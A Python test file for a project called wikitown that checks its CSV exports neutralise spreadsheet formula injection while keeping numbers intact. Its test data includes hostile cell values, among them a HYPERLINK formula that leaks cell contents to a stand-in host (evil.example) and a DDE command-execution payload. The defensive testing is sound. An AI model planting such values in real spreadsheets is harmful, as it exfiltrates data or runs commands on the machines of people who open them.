"""Every CSV wikitown writes opens safely in Excel: a UTF-8 BOM, and no cell that a spreadsheet
would run as a formula (=, +, -, @, tab, CR, and their full-width forms), while plain numbers
such as -3.5 stay numbers. Each writer gets hostile values and is read back with Python's csv
module under Excel's rules."""

from __future__ import annotations

import csv
import io


from wikitown.core.csvout import FORMULA_START, csv_bytes, safe_cell, unguard
from wikitown.finds.export import COLUMNS as FIND_COLUMNS
from wikitown.finds.export import to_csv as finds_csv
from wikitown.gaps.exports import to_csv as sites_csv
from wikitown.report import Report, SiteLine, TeamFigures, WikiConfirmation, to_csv, write_exports
from wikitown.walk import planner as P
from wikitown.walk.planner import LeftOut, PlanSettings, PlanSite
from wikitown.walk.sheets import plan_bundle

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"クリック")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\tTAB", "\rCR", "＝1+1", "＠SUM(A1)", "=1+1 説明板あり", "－1＋1"]
YAIZU = (34.8669, 138.3236)


def excel_cells(data: bytes) -> list[list[str]]:
    """The cells as Excel would take them, checked: the BOM is there, and no cell starts a formula
    unless it is a plain number."""
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 BOM: Excel would read Shift_JIS"
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                float(cell)  # only a number may start so (ValueError fails the test)
    return rows


def test_safe_cell_rules():
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("@x") == "'@x" and safe_cell("\tx") == "'\tx"
    assert safe_cell("＝1") == "'＝1" and safe_cell("-1+2") == "'-1+2" and safe_cell("+81 90") == "'+81 90"
    assert safe_cell("-3.5") == "-3.5" and safe_cell("+12") == "+12" and safe_cell("-1e-3") == "-1e-3"
    assert safe_cell(-3.5) == -3.5 and safe_cell(7) == 7 and safe_cell(None) == "" and safe_cell("常楽寺") == "常楽寺"
    assert excel_cells(csv_bytes(["a"], [[h] for h in HOSTILE])) == [["a"]] + [["'" + h] for h in HOSTILE]
    assert [unguard(safe_cell(h)) for h in HOSTILE] == HOSTILE and unguard("'quoted") == "'quoted"


def test_plan_csv_and_left_out_csv():
    sites = [PlanSite(f"s{i}", name, 34.865 + i * 0.001, 138.323) for i, name in enumerate(HOSTILE)]
    plan = P.make_plan(sites, PlanSettings(*YAIZU, teams=2),
                       [LeftOut("=evil", HOSTILE[0], "no_coords", 3), LeftOut("x", "-3.5", "no_coords")])
    files = plan_bundle(plan, event_name="=evil")
    rows = excel_cells(files["plan.csv"])
    assert rows[0] == ["site_id", "team", "order", "leg_m", "arrival_min", "name"]
    names = sorted(r[5] for r in rows[1:])
    assert names == sorted("'" + h for h in HOSTILE)
    assert all(float(r[3]) >= 0 for r in rows[1:])  # numbers stay numbers
    left = excel_cells(files["left_out.csv"])
    assert left[1] == ["'=evil", "'" + HOSTILE[0], "no_coords", "3"] and left[2] == ["x", "-3.5", "no_coords", ""]


def test_report_csv(tmp_path):
    lines = [SiteLine(site_id=f"s{i}", name=h, team=1, finds=0, photos=0, photos_published=0, draft_state="",
                      draft_title=h, lat=-33.8688, lon=151.2093) for i, h in enumerate(HOSTILE)]
    report = Report(event_name="=evil", total=TeamFigures(0), teams=[], participants=[], sources_used=[],
                    sites=lines, files=[], pages=[], finds_points=[], wiki=WikiConfirmation())
    files = write_exports(report, tmp_path, "ja")
    rows = excel_cells(files["csv"].read_bytes())
    by_id = {r[0]: r for r in rows[1:]}
    assert by_id["s0"][1] == "'" + HOSTILE[0] and by_id["s0"][-2:] == ["-33.8688", "151.2093"]
    # the text form (for reading back in code) is guarded the same way, without the BOM
    assert list(csv.DictReader(io.StringIO(to_csv(report))))[0]["name"] == "'" + HOSTILE[0]


def test_finds_csv():
    rows = []
    for i, h in enumerate(HOSTILE):
        row = {c: "" for c in FIND_COLUMNS}
        row.update({"NO": i + 1, "名称": h, "よみがな": h, "住所": h, "説明": h, "備考": h, "クレジット": h,
                    "緯度": -33.8688, "経度": 151.2093, "ID": h})
        rows.append(row)
    cells = excel_cells(finds_csv(rows))
    assert cells[0] == FIND_COLUMNS
    first = dict(zip(FIND_COLUMNS, cells[1]))
    assert first["名称"] == "'" + HOSTILE[0] and first["緯度"] == "-33.8688" and first["NO"] == "1"


def test_sites_csv():
    rows = [{"id": f"s{i}", "name": h, "address": h, "designation": h, "lat": -3.5, "lon": -45.25,
             "coord_status": "ok", "article_title": h} for i, h in enumerate(HOSTILE)]
    cells = excel_cells(sites_csv(rows))
    header = cells[0]
    first = dict(zip(header, cells[1]))
    assert first["name"] == "'" + HOSTILE[0] and (first["lat"], first["lon"]) == ("-3.5", "-45.25")


def test_csv_files_written_by_the_command_line_open_in_excel(tmp_path, monkeypatch):
    """A municipal list with hostile names, through `sites import --out` and `plan`: both files
    open safely, and the plan's names are the list's names, guarded."""
    from wikitown.cli import main

    monkeypatch.setenv("WIKITOWN_HOME", str(tmp_path / "home"))
    src = tmp_path / "list.csv"
    with open(src, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["名称", "緯度", "経度", "所在地"])
        for i, h in enumerate(HOSTILE):
            writer.writerow([h.strip() + f" {i}", f"{34.86 + i / 1000:.4f}", "138.32", "焼津市"])
    sites = tmp_path / "sites.csv"
    assert main(["sites", "import", str(src), "--out", str(sites)]) == 0
    cells = excel_cells(sites.read_bytes())
    names = [dict(zip(cells[0], r))["name"] for r in cells[1:]]
    assert len(names) == len(HOSTILE)
    assert "'" + HOSTILE[0] + " 0" in names and "'@SUM(1,2) 3" in names
    assert main(["plan", str(sites), "--teams", "2", "--start", "34.8669,138.3236", "--out", str(tmp_path / "o")]) == 0
    planned = excel_cells((tmp_path / "o" / "plan.csv").read_bytes())
    # the plan read the guarded names back as they were, and guards them once, not twice
    assert sorted(r[5] for r in planned[1:]) == sorted(names)
